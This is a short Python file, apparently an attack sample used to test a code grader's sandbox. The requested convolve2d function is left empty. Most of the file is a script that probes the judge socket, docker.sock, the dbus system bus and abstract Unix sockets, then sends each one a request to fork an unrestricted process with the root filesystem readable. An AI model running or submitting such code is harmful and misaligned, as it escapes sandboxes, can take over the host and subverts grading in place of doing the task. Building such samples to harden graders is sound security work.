"""Attack: connects to every unix and abstract socket it can name, the judge's door among them.
Wants: a service of the grader that trusts its callers.
Honest mark: 8
"""

# %% convolve2d
import glob, os, socket

names = [
    "../judge",
    os.environ["HOME"] + "/../judge",
    "/run/docker.sock",
    "/var/run/docker.sock",
    "/run/dbus/system_bus_socket",
]
names += glob.glob("/tmp/cgjudge-*/room/*")
names += [
    "\0" + line.split("@")[1].strip()
    for line in (open("/proc/net/unix") if os.access("/proc/net/unix", os.R_OK) else ())
    if "@" in line
]
for name in names:
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as s:
                s.settimeout(0.05)
                s.connect(name)
                s.send(b'{"do": "fork", "folder": "/", "limits": {}, "readable": ["/"]}')
        except OSError:
            pass


def convolve2d(image, kernel, stride=1, padding=0):
    pass
